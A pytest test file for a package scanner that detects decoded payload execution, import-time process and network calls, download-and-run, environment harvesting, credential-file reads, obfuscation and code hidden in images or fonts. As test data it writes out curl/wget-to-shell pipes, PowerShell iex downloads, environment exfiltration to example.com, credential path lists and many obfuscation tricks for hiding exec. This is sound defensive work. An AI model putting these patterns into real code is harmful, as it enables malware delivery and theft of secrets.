"""Each capability: what shows it, however it is written, and honest code that looks like it.

The samples do nothing when they are run but ask for a process id or write a marker.
"""

from __future__ import annotations

import base64
import codecs
import hashlib
import zlib
from textwrap import dedent
from typing import Final

import pytest

from guard.artifact.source import Scanner

SCANNER: Final = Scanner()
HARMLESS: Final = "import os\nos.getpid()\n"
CODED: Final = base64.b64encode(HARMLESS.encode()).decode()
XORED: Final = bytes(b ^ 7 for b in HARMLESS.encode())
PACKED: Final = base64.b64encode(zlib.compress(HARMLESS.encode())).decode()


def shown(source: str | bytes, name: str = "frob/a.py") -> dict[str, list[int | None]]:
    """The capabilities that a member shows, and the lines."""
    data = dedent(source).encode() if isinstance(source, str) else source
    found: dict[str, list[int | None]] = {}
    for trace in SCANNER.traces(name, data, offset=0):
        found.setdefault(trace.capability, []).append(trace.line)
    return found


DECODED = [
    pytest.param(f"import base64\nexec(base64.b64decode('{CODED}'))", id="plain"),
    pytest.param(f"import base64\nx = base64.b64decode('{CODED}')\nexec(x)", id="by a name"),
    pytest.param(
        f"from base64 import b64decode as d\nrun = eval\nrun(compile(d('{CODED}'), '', 'exec'))",
        id="by aliases",
    ),
    pytest.param(
        f"import zlib, base64\nexec(zlib.decompress(base64.b64decode('{PACKED}')).decode())",
        id="packed",
    ),
    pytest.param(f"exec(bytes.fromhex('{HARMLESS.encode().hex()}'))", id="hexadecimal"),
    pytest.param(
        f"import codecs\nexec(codecs.decode({codecs.encode('os.getpid()', 'rot13')!r}, 'rot13'))",
        id="rotated",
    ),
    pytest.param(f"exec({HARMLESS[::-1]!r}[::-1])", id="reversed"),
    pytest.param(f"exec(''.join(map(chr, {list(HARMLESS.encode())})))", id="numbers"),
    pytest.param(f"exec(bytes(b ^ 7 for b in {XORED!r}))", id="xor"),
    pytest.param(
        f"exec(''.join(\n    chr(\n        n\n    )\n    for n in {list(HARMLESS.encode())}\n))",
        id="numbers on lines of their own",
    ),
    pytest.param(
        f"exec(''.join(\n    map(\n        chr,\n        {list(HARMLESS.encode())},\n    )\n))",
        id="numbers that are mapped on lines of their own",
    ),
    pytest.param(
        f"exec(bytearray([b^7 for b in {XORED!r}]))",
        id="xor to a bytearray",
    ),
    pytest.param(
        f"k = b'\\7'\nx = {XORED!r}\n"
        "exec(bytes(\n    x[i] ^ k[i % len(k)]\n    for i in range(len(x))\n))",
        id="xor by index",
    ),
    pytest.param(
        f"exec(bytes(map(lambda b: b ^ 7, {XORED!r})))",
        id="xor that is mapped",
    ),
    pytest.param(
        f"_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));"
        f"exec((_)(b'{PACKED[::-1]}'))",
        id="lambda",
    ),
    pytest.param(
        f"""
        import base64
        def unpack(text):
            return base64.b64decode(text)
        def run(code):
            exec(code)
        run(unpack('{CODED}'))
        """,
        id="by functions",
    ),
    pytest.param(
        f"""
        import base64
        class Loader:
            def __init__(self):
                self.code = base64.b64decode('{CODED}')
            def run(self):
                exec(self.code)
        """,
        id="by an attribute",
    ),
    pytest.param(
        f"""
        import base64
        parts = []
        parts.append(base64.b64decode('{CODED}').decode())
        exec(''.join(parts))
        """,
        id="by a list",
    ),
    pytest.param(
        f"import marshal, types, base64\n"
        f"types.FunctionType(marshal.loads(base64.b64decode('{CODED}')), globals())()",
        id="marshal",
    ),
    pytest.param(
        f"import subprocess, sys, base64\n"
        f"subprocess.run([sys.executable, '-c', base64.b64decode('{CODED}')])",
        id="child",
    ),
    pytest.param(
        f"import subprocess, sys\nb = '{CODED}'\n"
        f"subprocess.Popen([sys.executable, '-c', f'import "
        f'base64;exec(base64.b64decode("{{b}}"))\'])',
        id="child that decodes",
    ),
    pytest.param(
        f"""
        import base64, os, subprocess, sys, tempfile
        with tempfile.TemporaryDirectory() as folder:
            path = os.path.join(folder, "p.py")
            with open(path, "wb") as stream:
                stream.write(base64.b64decode('{CODED}'))
            subprocess.run([sys.executable, path])
        """,
        id="file",
    ),
    pytest.param(
        f"import subprocess, sys, base64\n"
        f"subprocess.run([sys.executable, '-'], input=base64.b64decode('{CODED}'))",
        id="input",
    ),
    pytest.param(
        f"import builtins, base64\ngetattr(builtins, 'exec')(base64.b64decode('{CODED}'))",
        id="getattr",
    ),
    pytest.param(
        f"import base64\n__builtins__['exec'](base64.b64decode('{CODED}'))", id="builtins"
    ),
    pytest.param(
        f"import pickle, base64\npickle.loads(base64.b64decode('{CODED}'))", id="literal pickle"
    ),
    pytest.param(
        f"from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'{CODED}'))",
        id="cipher",
    ),
]


@pytest.mark.parametrize("source", DECODED)
def test_code_that_is_decoded_and_run(source: str) -> None:
    assert "decoded-exec" in shown(source)


@pytest.mark.parametrize("source", DECODED)
def test_and_in_the_middle_of_a_long_module(source: str) -> None:
    filler = "".join(
        f"def helper_{n}(value: int = {n}) -> int:\n    return value * {n}\n\n\n"
        for n in range(120)
    )
    lines = filler.count("\n")
    [*at] = shown(f"{filler}{dedent(source)}\n\n{filler}")["decoded-exec"]
    assert all(line is not None and lines < line <= lines + source.count("\n") + 3 for line in at)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param("import base64\nicon = base64.b64decode('AAAA')\n", id="decoded only"),
        pytest.param("exec(open('setup.py').read())", id="a file"),
        pytest.param(
            "code = compile(open('a.py').read(), 'a.py', 'exec')\nexec(code)", id="compiled"
        ),
        pytest.param(
            "import json, base64\nx = json.loads(base64.b64decode(y))\neval('1')", id="json"
        ),
        pytest.param(
            "import ast, base64\nast.literal_eval(base64.b64decode(x).decode())", id="literal"
        ),
        pytest.param("model.eval()\nimport zlib\nzlib.decompress(x)", id="a method named eval"),
        pytest.param(
            "import subprocess, base64\nsubprocess.run(['openssl'], input=base64.b64decode(x))",
            id="data for a tool",
        ),
        pytest.param(
            '"""exec(base64.b64decode(x)) is bad."""\n# eval(zlib.decompress(x))', id="words"
        ),
        pytest.param("import re, zlib\nre.compile(zlib.decompress(x).decode())", id="re.compile"),
        pytest.param(
            "import pickle, base64\ndef load(text):\n"
            "    return pickle.loads(base64.b64decode(text))",
            id="a pickle from elsewhere",
        ),
    ],
)
def test_what_is_only_decoded_or_only_run(source: str) -> None:
    assert "decoded-exec" not in shown(source)


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("const fs = require('fs');\neval(atob('AAAA'))", "frob/a.js"),
        (
            "import os from 'os'\nnew Function(Buffer.from('AAAA', 'base64').toString())()",
            "frob/a.mjs",
        ),
        ("echo AAAA | base64 -d | sh\n", "frob/run.sh"),
        ("powershell -NoProfile -enc SQBFAFgAIABhAGIAYwBkAGUAZgA=\n", "frob/run.bat"),
        ("$x = [Convert]::FromBase64String('AAAA') | iex\n", "frob/run.ps1"),
        ("#!/bin/sh\necho AAAA | base64 --decode | bash\n", "frob-1.0.data/scripts/frob"),
    ],
)
def test_scripts_that_decode_and_run(source: str, name: str) -> None:
    assert "decoded-exec" in shown(source, name)


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("eval(atob('AAAA'))", "frob/static/bundle.js"),
        ("base64 -d < icon.txt > icon.png\n", "frob/icon.sh"),
    ],
)
def test_scripts_for_a_browser_and_for_data(source: str, name: str) -> None:
    assert shown(source, name) == {}


EARLY = [
    pytest.param("{}", id="top level"),
    pytest.param("if True:\n    try:\n        {}\n    finally:\n        pass", id="blocks"),
    pytest.param("if __name__ != '__main__':\n    {}", id="not the script"),
    pytest.param("if __name__ == '__main__':\n    pass\nelse:\n    {}", id="else of the script"),
    pytest.param("if __name__ == 'frob.a':\n    {}", id="the name of the module"),
    pytest.param("class A:\n    x = {}", id="class body"),
    pytest.param("def f(x={}):\n    pass", id="default"),
    pytest.param("def f(a: int,\n      x={}):\n    pass", id="default on a second line"),
    pytest.param("def f(x: {} = 1):\n    pass", id="annotation"),
    pytest.param(
        "class A:\n    async def f(self, *x: [{}]):\n        pass", id="annotation of many"
    ),
    pytest.param("def f(a, /, *, b, **c: 'x'[{}:]):\n    pass", id="annotation of keywords"),
    pytest.param("def f() -> {}:\n    pass", id="annotation of what is returned"),
    pytest.param("x: {} = 1", id="annotation of a name"),
    pytest.param("@print({})\ndef f():\n    pass", id="decorator call"),
    pytest.param("x = [{} for _ in 'a']", id="comprehension"),
    pytest.param("def f():\n    {}\nf()", id="function"),
    pytest.param("def f():\n    {}\ndef g():\n    f()\ndef h():\n    g()\nh()", id="functions"),
    pytest.param("def f():\n    {}\ng = f\ng()", id="alias of a function"),
    pytest.param("def f(_):\n    {}\n@f\ndef g():\n    pass", id="decorator"),
    pytest.param("f = lambda: {}\nf()", id="lambda"),
    pytest.param("(lambda: {})()", id="lambda at once"),
    pytest.param("class A:\n    def __init__(self):\n        {}\nA()", id="instance"),
    pytest.param("class A:\n    def run(self):\n        {}\nA().run()", id="method"),
    pytest.param(
        "class A:\n    def run(self):\n        {}\na = A()\na.run()", id="method of a name"
    ),
    pytest.param(
        "class A:\n    def __init__(self):\n        self.run()\n    def run(self):\n"
        "        {}\nA()",
        id="method of a method",
    ),
    pytest.param(
        "class A:\n    def __init_subclass__(cls):\n        {}\nclass B(A):\n    pass",
        id="subclass",
    ),
    pytest.param(
        "import threading\ndef f():\n    {}\nthreading.Thread(target=f).start()", id="thread"
    ),
    pytest.param(
        "import threading\nclass A:\n    def run(self):\n        {}\n"
        "a = A()\nthreading.Thread(\n    target=a.run,\n).start()",
        id="thread of a method",
    ),
    pytest.param("import asyncio\nasync def f():\n    {}\nasyncio.run(f())", id="coroutine"),
    pytest.param("import atexit\ndef f():\n    {}\natexit.register(f)", id="at exit"),
    pytest.param("with open('x') as x:\n    {}", id="with"),
]
LATE = [
    pytest.param("def f():\n    {}", id="function"),
    pytest.param("class A:\n    def run(self):\n        {}\na = A()", id="method"),
    pytest.param("class A:\n    def __init__(self):\n        {}\nclass B(A):\n    pass", id="base"),
    pytest.param("if __name__ == '__main__':\n    {}", id="script"),
    pytest.param(
        "import sys\nif sys.argv and '__main__' == __name__:\n    {}", id="script and more"
    ),
    pytest.param(
        "def f():\n    {}\nif __name__ == '__main__':\n    f()", id="function of a script"
    ),
    pytest.param("f = lambda: {}", id="lambda"),
    pytest.param('x = """\n{}\n"""', id="string"),
    pytest.param("# {}", id="comment"),
    pytest.param("def f():\n    {}\nx = {{'f': f}}", id="in a table"),
    pytest.param(
        "def f(g):\n    def h():\n        {}\n    return h\n@f\ndef k():\n    pass", id="wrapper"
    ),
]
PROCESS: Final = "subprocess.run(['id'])"
NETWORK: Final = "urllib.request.urlopen('https://example.com')"


def module(form: str, statement: str, filler: int) -> str:
    """A module of some length that has `statement` in the place that `form` gives."""
    more = "".join(
        f"def other_{n}():\n    '''{n} `x`'''\n    return {n}\n\n" for n in range(filler)
    )
    return f"import subprocess, urllib.request\n{more}{form.format(statement)}\n{more}"


@pytest.mark.parametrize("filler", [0, 80])
@pytest.mark.parametrize("form", EARLY)
def test_what_happens_on_import(form: str, filler: int) -> None:
    assert set(shown(module(form, PROCESS, filler))) == {"import-time-process"}
    assert set(shown(module(form, NETWORK, filler))) == {"import-time-network"}


@pytest.mark.parametrize("filler", [0, 80])
@pytest.mark.parametrize("form", LATE)
def test_what_happens_only_when_it_is_asked_for(form: str, filler: int) -> None:
    assert shown(module(form, PROCESS, filler)) == {}
    assert shown(module(form, NETWORK, filler)) == {}


@pytest.mark.parametrize(
    "source",
    [
        "import os as o\no.system('id')",
        "from os import system\nsystem('id')",
        "from os import (\n    system as s,\n)\ns('id')",
        "from os import *\nsystem('id')",
        "from subprocess import Popen as P\nP(['id'])",
        "import subprocess as s; s.call(['id'])",
        "__import__('os').system('id')",
        "__import__('subprocess').Popen(['id'])",
        "import importlib\nimportlib.import_module('os').popen('id')",
        "import os\no = os\no.system('id')",
        "import os\nrun = os.system\nrun('id')",
        "import os\ngetattr(os, 'system')('id')",
        "import os\nn = 'system'\ngetattr(os, n)('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['system']('id')",
        "import sys, os\nsys.modules['os'].system('id')",
        "import os\nglobals()['os'].system('id')",
        "import shutil\nshutil.os.system('id')",
        "import os\nos . system('id')",
        "import os\nos.\\\nsystem('id')",
        "import os\nlist(map(os.system, ['id']))",
        "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()",
        "import functools, os\nfunctools.partial(os.system, 'id')()",
        "import os\nos.execvp('id', ['id'])",
        "import os\nos.posix_spawn('/bin/id', ['id'], {})",
        "import pty\npty.spawn('id')",
        "import asyncio\nasyncio.run(asyncio.create_subprocess_shell('id'))",
        "import os\n(s := os.system)('id')",
    ],
)
def test_a_process_by_any_name(source: str) -> None:
    assert "import-time-process" in shown(source)


@pytest.mark.parametrize(
    "source",
    [
        "import requests\nrequests.get('https://example.com')",
        "import requests as r\nr.post('https://example.com')",
        "from requests import get\nget('https://example.com')",
        "import requests\ns = requests.Session()\ns.get('https://example.com')",
        "import requests\nwith requests.Session() as s:\n    s.get('https://example.com')",
        "import httpx\nhttpx.get('https://example.com')",
        "import httpx\nhttpx.Client().get('https://example.com')",
        "from urllib.request import urlopen as u\nu('https://example.com')",
        "import urllib.request as r\nr.urlretrieve('https://example.com', 'x')",
        "import socket\nsocket.create_connection(('example.com', 443))",
        "import socket\ns = socket.socket()\ns.connect(('example.com', 443))",
        "from socket import socket\ns = socket()\ns.connect(('example.com', 443))",
        "import socket\nsocket.gethostbyname('x.example.com')",
        "import http.client\nc = http.client.HTTPSConnection('example.com')\nc.request('GET', '/')",
        "import urllib3\nurllib3.PoolManager().request('GET', 'https://example.com')",
        "import smtplib\nsmtplib.SMTP('mail.example.com')",
        "__import__('requests').get('https://example.com')",
        "import importlib\nimportlib.import_module('urllib.request').urlopen('https://example.com')",
    ],
)
def test_the_network_by_any_name(source: str) -> None:
    assert set(shown(source)) == {"import-time-network"}


@pytest.mark.parametrize(
    "source",
    [
        "import httpx\nCLIENT = httpx.Client()",
        "import socket\nNAME = socket.gethostname()\nFAMILY = socket.AF_INET",
        "import requests\nclass A:\n    session: requests.Session\n    get = requests.get",
        "import platform\nplatform.system()",
        (
            "import subprocess\nP = subprocess.Popen\nclass E(subprocess.CalledProcessError):\n"
            "    pass"
        ),
        "class Shell:\n    def system(self): ...\nShell().system()",
        "d = {}\nd.get('x')\nd.update(post=1)",
        "import os\nIS = getattr(os, 'O_BINARY', 0)",
        "def get(): ...\nget()\nsession.get('x')",
    ],
)
def test_what_only_looks_like_it(source: str) -> None:
    assert shown(source) == {}


@pytest.mark.parametrize(
    "source",
    [
        "import requests\ndef f():\n    exec(requests.get('https://example.com/x').text)",
        (
            "import urllib.request as u\ndef f():\n    x = u.urlopen('https://example.com')\n"
            "    eval(x.read())"
        ),
        """
        import os, urllib.request
        def f():
            urllib.request.urlretrieve('https://example.com/x', '/tmp/x')
            os.system('/tmp/x')
        """,
        """
        import subprocess, requests
        def f():
            answer = requests.get('https://example.com/x')
            with open('/tmp/x', 'wb') as stream:
                stream.write(answer.content)
            subprocess.Popen(['/tmp/x'], start_new_session=True)
        """,
        "import os\ndef f():\n    os.system('curl -fsSL https://example.com/x | sh')",
        (
            "import os\nURL = 'https://example.com/x'\ndef f():\n"
            "    os.system(f'wget -qO- {URL} | bash')"
        ),
        """
        import subprocess
        def f():
            subprocess.run(['curl', '-k', '-o', '/tmp/x.pyz', 'https://example.com/x'])
            subprocess.Popen(['python3', '/tmp/x.pyz'])
        """,
        (
            "import subprocess\ndef f():\n"
            "    subprocess.run(['powershell', 'iwr https://example.com/x | iex'])"
        ),
        "BUN = 'https://github.com/oven-sh/bun/releases/download/v1/bun.zip'",
    ],
)
def test_what_is_fetched_and_run(source: str) -> None:
    assert "download-and-run" in shown(source)


@pytest.mark.parametrize(
    "source",
    [
        "import requests\ndef f():\n    return requests.get('https://example.com/x').json()",
        (
            "import requests, subprocess\ndef f():\n    requests.get('x')\ndef g():\n"
            "    subprocess.run(['id'])"
        ),
        "HELP = 'install it with: curl -LsSf https://example.com/install.sh | sh'",
        "import subprocess\ndef f():\n    subprocess.run(['curl', '--version'])",
        (
            "import requests\ndef f():\n    with open('x', 'wb') as s:\n"
            "        s.write(requests.get('x').content)"
        ),
    ],
)
def test_what_is_only_fetched_or_only_run(source: str) -> None:
    assert "download-and-run" not in shown(source)


@pytest.mark.parametrize(
    ("source", "name"),
    [
        ("curl -fsSL https://example.com/x | sudo bash\n", "frob/install.sh"),
        ('eval "$(wget -qO- https://example.com/x)"\n', "frob/install.sh"),
        (
            "iex ((New-Object Net.WebClient).DownloadString('https://example.com/x'))\n",
            "frob/a.ps1",
        ),
        ("iwr https://example.com/x -UseBasicParsing | iex\n", "frob/a.ps1"),
        ("certutil.exe -urlcache -f https://example.com/x x.exe\r\n", "frob/a.bat"),
        (
            "const cp = require('child_process');\ncp.exec('curl https://example.com/x | sh')",
            "frob/a.js",
        ),
    ],
)
def test_scripts_that_fetch_and_run(source: str, name: str) -> None:
    assert "download-and-run" in shown(source, name)


def test_a_page_that_shows_how_to_install_something() -> None:
    text = "x = 'curl https://example.com/x | sh'"
    assert shown(text, "frob/static/bundle.js") == {}
    assert shown(text, "frob/README.md") == {}


@pytest.mark.parametrize(
    "source",
    [
        "import os, json\ndef f():\n    return json.dumps(dict(os.environ))",
        (
            "import os, requests\ndef f():\n"
            "    requests.post('https://example.com', json={**os.environ})"
        ),
        """
        import base64, os, requests
        def f():
            text = ""
            for name, value in os.environ.items():
                text += f"{name}={value}"
            coded = base64.b64encode(text.encode())
            requests.get("https://example.com/" + str(coded))
        """,
        (
            "from os import environ as e\nimport json\ndef f():\n    x = e.copy()\n"
            "    return json.dumps(x)"
        ),
        "import os, urllib.parse\ndef f():\n    return urllib.parse.urlencode(os.environ)",
        "import os\ndef f():\n    return str(os.environ)",
        """
        import json, os
        def all_of_it():
            return {k: v for k, v in os.environ.items()}
        def send():
            json.dumps({"env": all_of_it()})
        """,
        "import os\ndef f():\n    os.system('printenv > /tmp/x')",
    ],
)
def test_the_whole_environment_as_a_text(source: str) -> None:
    assert "environment-harvest" in shown(source)


@pytest.mark.parametrize(
    "source",
    [
        "import os, json\ndef f():\n    return json.dumps({'home': os.environ['HOME']})",
        "import os, json\ndef f():\n    return json.dumps(os.environ.get('X'))",
        "import os, subprocess\ndef f():\n    subprocess.run(['id'], env=dict(os.environ, X='1'))",
        "import os, json\ndef f():\n    e = os.environ.copy()\n    return json.dumps([1])",
        (
            "import os, json\n"
            "X = {k: v for k, v in os.environ.items() if k.startswith('FROB_')}\njson.dumps(X)"
        ),
        "import os\ndef f():\n    return 'X' in os.environ",
    ],
)
def test_what_a_program_needs_of_the_environment(source: str) -> None:
    assert shown(source) == {}


def test_scripts_that_collect_the_environment() -> None:
    harvest = "const os = require('os');\nsend(JSON.stringify(process.env))"
    assert "environment-harvest" in shown(harvest, "frob/a.js")
    assert "environment-harvest" in shown("env | base64 > x\n", "frob/a.sh")
    assert shown("send(JSON.stringify(process.env))", "frob/static/page.js") == {}


@pytest.mark.parametrize(
    "source",
    [
        "PATHS = ['~/.ssh/id_rsa', '~/.aws/credentials']",
        "PATHS = ['~/.kube/config', '~/.docker/config.json']",
        "PATHS = [HOME + '/.npmrc', HOME + '/.pypirc']",
        "PATHS = ['/etc/shadow', '~/.ssh/id_ed25519']",
        "X = 'nkbihfbeogaeaoehlefnkodbefgpgknn'",
        "X = r'Google\\Chrome\\User Data', 'Login Data'",
    ],
)
def test_the_secrets_of_other_programs(source: str) -> None:
    assert set(shown(source)) == {"credential-read"}


@pytest.mark.parametrize(
    "source",
    [
        "PATH = '~/.aws/credentials'\nOTHER = '~/.aws/config'",
        "KEY = os.path.expanduser('~/.ssh/id_rsa')",
        "CONFIG = '~/.kube/config'",
        "NETRC = '~/.netrc'",
        "password = getpass()",
    ],
)
def test_the_configuration_of_one_service(source: str) -> None:
    assert shown(source) == {}


@pytest.mark.parametrize(
    "source",
    [
        "import os\ngetattr(os, 'sys' + 'tem')",
        "import os\ngetattr(os, 'metsys'[::-1])",
        "import os\ngetattr(os, ''.join(['sys', 'tem']))",
        "import os\ngetattr(os, chr(115) + 'ystem')",
        "import os\ngetattr(os, ''.join(map(chr, [115, 121, 115, 116, 101, 109])))",
        "import os\ngetattr(os, bytes.fromhex('73797374656d').decode())",
        "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())",
        "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))",
        "import os\ngetattr(os, 'sys{}'.format('tem'))",
        "import os\ngetattr(os, f\"sys{'tem'}\")",
        "import os\ngetattr(os, 'sysXtem'.replace('X', ''))",
        "import os\nn = 'sys' + 'tem'\ngetattr(os, n)",
        "__import__('o' + 's')",
        "import importlib\nimportlib.import_module('sub' + 'process')",
        "__builtins__['ex' + 'ec']('1')",
        (
            "x = ['\\x69\\x6d\\x70\\x6f\\x72\\x74', '\\x6f\\x73\\x2e\\x67\\x65\\x74', "
            "'\\x70\\x69\\x64\\x28\\x29\\x20']"
        ),
        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(1, 2, b'')",
        "\n".join(f"OOO0O0OO{n} = IlIlIlll{n}" for n in range(12)),
        "import os\nos.\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa('id')",
        "access = 'user\u202e \u2066# check\u2069 \u2066'",
        "x = '" + "\ufe00\ufe01\ufe02\ufe03\ufe04" + "'",
        "import os;" + " " * 200 + ";os.getpid()",
    ],
)
def test_source_that_is_not_to_be_read(source: str) -> None:
    assert "obfuscation" in shown(source)


def test_letters_of_other_alphabets_hide_no_call() -> None:
    source = "import os\nos.\U0001d600\U0001d606\U0001d600\U0001d601\U0001d5f2\U0001d5fa('id')\n"
    assert set(shown(source)) == {"obfuscation", "import-time-process"}


@pytest.mark.parametrize(
    "source",
    [
        "getattr(self, 'visit_' + name)",
        "getattr(self, 'on' + '_' + 'close')",
        "import importlib\nimportlib.import_module('frob' + '.plugins')",
        "TABLE = b'\\x00\\x01\\x02\\xff' b'\\x61\\x62'",
        (
            "x = 'caf\xe9 \u4e2d\u6587 "
            "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f'"
        ),
        "x = 1" + " " * 200 + "# far away",
        "'a\u2003b \u2014 \u201cquoted\u201d \ufe0f'",
    ],
)
def test_source_that_is_only_unusual(source: str) -> None:
    assert shown(source) == {}


def test_javascript_of_an_obfuscator() -> None:
    names = ";".join(f"var _0x{n:04x}=_0x4f2a({n})" for n in range(20))
    assert set(shown(names, "frob/a.js")) == {"obfuscation"}
    assert shown("var _0x12=1; var _0xdead=2;", "frob/a.js") == {}


PROGRAM: Final = ("import subprocess\nimport os\n" + "os.getpid()\n" * 400).encode()
NOISE: Final = b"".join(hashlib.sha256(bytes([n])).digest() for n in range(128))


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(f"x = '{base64.b64encode(PROGRAM).decode()}'", id="base64"),
        pytest.param(f"x = '{PROGRAM.hex()}'", id="hexadecimal"),
        pytest.param(f"x = {codecs.encode(PROGRAM.decode(), 'rot13')!r}", id="rotated"),
        pytest.param(f"x = {PROGRAM.decode()[::-1]!r}", id="reversed"),
        pytest.param(
            f"x = '{base64.b64encode(zlib.compress(NOISE)).decode()}'", id="packed and long"
        ),
        pytest.param(f'x = """\n{base64.encodebytes(PROGRAM).decode()}"""', id="in lines"),
    ],
)
def test_code_within_a_text(source: str) -> None:
    assert "hidden-payload" in shown(source)


@pytest.mark.parametrize(
    "source",
    [
        pytest.param(
            f"ICON = '{base64.b64encode(b'%cPNG' % 0x89 + NOISE).decode()}'", id="picture"
        ),
        pytest.param(
            f"CERT = '{base64.b64encode(b'0' + bytes([0x82]) + NOISE).decode()}'", id="DER"
        ),
        pytest.param(f"TEXT = '{base64.b64encode(b'Lorem ipsum ' * 300).decode()}'", id="words"),
        pytest.param("URL = 'https://example.com/" + "a" * 2000 + "'", id="one letter"),
        pytest.param("DIGEST = '" + "0123456789abcdef" * 8 + "'", id="a digest"),
    ],
)
def test_a_long_text_that_is_no_code(source: str) -> None:
    assert shown(source) == {}


def png(after: bytes = b"") -> bytes:
    end = b"\0\0\0\0IEND\xaeB`\x82"
    return b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR" + bytes(17) + end + after


def wav(samples: bytes, after: bytes = b"") -> bytes:
    body = (
        b"WAVEfmt \x10\0\0\0" + bytes(16) + b"data" + len(samples).to_bytes(4, "little") + samples
    )
    return b"RIFF" + len(body).to_bytes(4, "little") + body + after


def gif(after: bytes = b"") -> bytes:
    picture = b"\x2c" + bytes(8) + b"\0\x02\x02\x4c\x01\0"
    return b"GIF89a\x01\0\x01\0\0\0\0" + b"\x21\xfe\x05hello\0" + picture + b"\x3b" + after


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("frob/a.png", png(NOISE)),
        ("frob/a.gif", gif(NOISE)),
        ("frob/a.wav", wav(b"\1\2" * 500, NOISE)),
        ("frob/a.wav", wav(base64.b64encode(NOISE))),
        ("frob/a.png", png(b"\nimport os\n" + bytes(9))),
        ("frob/a.ttf", b"\0\1\0\0" + bytes(50) + b"exec(base64.b64decode(x))"),
        ("frob/a.dat", b"\0" + base64.b64encode(PROGRAM)),
        ("frob/a.so", b"import subprocess\nsubprocess.run(['id'])\n"),
        ("frob/a.json", b'{"x": "' + base64.b64encode(PROGRAM) + b'"}'),
    ],
)
def test_code_within_data(name: str, data: bytes) -> None:
    assert set(shown(data, name)) == {"hidden-payload"}


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("frob/a.png", png()),
        ("frob/a.png", png(b"\r\n")),
        ("frob/a.png", png(bytes(4000))),
        ("frob/a.gif", gif()),
        ("frob/a.wav", wav(b"\1\2" * 500)),
        ("frob/a.png", b"\x89PNG\r\n\x1a\n" + b"\xff" * 40),
        ("frob/a.so", b"\x7fELF" + b"import os; exec(base64"),
        ("frob/README.txt", b"import os\nexec(base64.b64decode(x))\n"),
        ("frob/a.json", b'{"cells": ["import os", "subprocess.run"]}'),
    ],
)
def test_data_that_is_what_it_is(name: str, data: bytes) -> None:
    assert shown(data, name) == {}
